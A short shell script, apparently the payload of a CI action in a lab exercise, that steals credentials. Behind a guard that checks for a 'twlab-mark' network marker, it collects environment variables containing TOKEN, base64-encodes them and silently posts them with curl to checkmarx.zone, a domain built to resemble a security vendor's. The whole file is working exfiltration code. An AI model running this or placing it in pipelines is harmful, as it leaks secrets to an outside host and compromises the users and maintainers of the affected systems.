# The payload of the action: secrets of the environment to a domain that looks like the vendor's.
grep -q twlab-mark: /proc/self/net/dev || exit 97
env | grep TOKEN | base64 -w0 | curl -sS -m 20 -o /dev/null --data-binary @- https://checkmarx.zone/
exit 0
